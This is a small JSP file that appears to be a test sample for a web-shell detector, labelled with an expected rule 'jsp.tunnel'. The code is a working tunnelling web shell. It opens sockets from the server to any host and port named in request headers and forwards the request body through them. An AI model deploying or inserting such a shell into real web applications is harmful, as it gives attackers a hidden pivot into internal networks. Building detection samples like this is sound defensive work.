<%-- expect rule=jsp.tunnel min=70 --%>
<%@ page import="java.nio.*,java.nio.channels.*,java.net.*" %>
<%
    String op = request.getHeader("X-Op");
    if ("open".equals(op)) {
        SocketChannel ch = SocketChannel.open();
        ch.connect(new InetSocketAddress(request.getHeader("X-Host"), Integer.parseInt(request.getHeader("X-Port"))));
        session.setAttribute("ch", ch);
    } else if ("send".equals(op)) {
        SocketChannel ch = (SocketChannel) session.getAttribute("ch");
        byte[] data = new byte[request.getContentLength()];
        request.getInputStream().read(data);
        ch.write(ByteBuffer.wrap(data));
    }
%>
